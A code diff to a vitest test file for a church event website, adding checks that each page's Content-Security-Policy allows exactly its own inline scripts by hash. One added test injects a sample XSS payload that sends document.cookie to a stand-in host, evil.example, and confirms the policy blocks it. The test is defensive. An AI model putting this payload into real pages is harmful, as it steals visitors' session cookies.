@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto'
 import { HtmlValidate, StaticConfigLoader } from 'html-validate'
 import { expect, test } from 'vitest'
 import { openPictureBook } from '#server/picture-book.ts'
@@ -7,7 +8,7 @@ import { SENT_REGISTRATION } from '../support/people.ts'
 import { EVERY_ADDRESS, testSite } from '../support/site/server.ts'
 import { give, registerFamily, type Site, sendForm } from '../support/site/visitor.ts'
 
-test('every page, in every state, is valid, names its church and can be shared', async () => {
+test('every page, in every state, is valid, runs its own scripts alone, names its church and can be shared', async () => {
   const site = await testSite({
     event: { capacity: { people: 30 } },
     change: () => ({ pictures: openPictureBook('build/client/pictures') }),
@@ -15,9 +16,18 @@ test('every page, in every state, is valid, names its church and can be shared',
   const seen = await everyState(site)
   expectEveryKind(seen)
   const pictures = new Set<string>()
-  for (const { name, status, html } of seen) {
+  for (const { name, status, html, headers } of seen) {
     expect([name, titlesIn(html)]).toEqual([name, [expect.stringMatching(NAMES_CHURCH)]])
     expect([name, await faultsIn(html)]).toEqual([name, []])
+    // It may run all of its own scripts and no others, and does not reveal how they are marked.
+    const scripts = new Set(inlineScripts(html).map(hash))
+    const allowed = headers.get('content-security-policy')?.match(/'sha256-[^']+'/g) ?? []
+    expect([name, new Set(allowed)]).toEqual([name, scripts])
+    expect([name, html.match(/nonce/), headers.has('x-inline-scripts')]).toEqual([
+      name,
+      null,
+      false,
+    ])
     if (status === 200) pictures.add(sharedPictureIn(html))
   }
   // Each is drawn when it is asked for, which takes a second.
@@ -66,7 +76,7 @@ function sharedPictureIn(html: string): string {
   return /property="og:image" content="http:\/\/church\.test([^"]+)"/.exec(html)?.[1] ?? '/none'
 }
 
-type Seen = { name: string; status: number; html: string }
+type Seen = { name: string; status: number; html: string; headers: Headers }
 
 /**
  * Every page as a visitor can see it: each address, and what each becomes in use. The site needs a
@@ -104,7 +114,7 @@ async function see(site: Site, addresses: string[], cookie = ''): Promise<Seen[]
 async function asSeen(name: string, answer: Response): Promise<Seen[]> {
   const html = await answer.text()
   const isPage = answer.headers.get('content-type')?.startsWith('text/html') && html !== ''
-  return isPage ? [{ name, status: answer.status, html }] : []
+  return isPage ? [{ name, status: answer.status, html, headers: answer.headers }] : []
 }
 
 /** Forms that come back: with mistakes, and with one person more. */
@@ -158,3 +168,34 @@ async function freeRegistration(site: Site): Promise<Seen[]> {
   await site.post(keep)
   return [...before, ...(await see(site, [keep], cookie))]
 }
+
+const HOSTILE = 'fetch("https://evil.example/?"+document.cookie)'
+
+function hash(source: string): string {
+  return `'sha256-${createHash('sha256').update(source).digest('base64')}'`
+}
+
+/** The inline scripts that the Content-Security-Policy applies to. */
+function inlineScripts(html: string): string[] {
+  const scripts = html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)
+  return [...scripts].flatMap(([, attributes = '', source = '']) =>
+    /\bsrc=|ld\+json/.test(attributes) ? [] : [source],
+  )
+}
+
+test('an injected script may not run, the page’s own scripts may', async () => {
+  const { url } = await testSite({
+    around: (renderPage) => async (request, services) => {
+      const page = await renderPage(request, services)
+      const html = (await page.text()).replace('<main', `<script>${HOSTILE}</script><main`)
+      return new Response(html, page)
+    },
+  })
+  const page = await fetch(`${url}/give`)
+  const policy = page.headers.get('content-security-policy') ?? ''
+  const [injected, ...own] = inlineScripts(await page.text())
+  expect(injected).toBe(HOSTILE)
+  expect(own.length).toBeGreaterThan(2)
+  for (const source of own) expect(policy).toContain(hash(source))
+  expect(policy).not.toContain(hash(HOSTILE))
+})
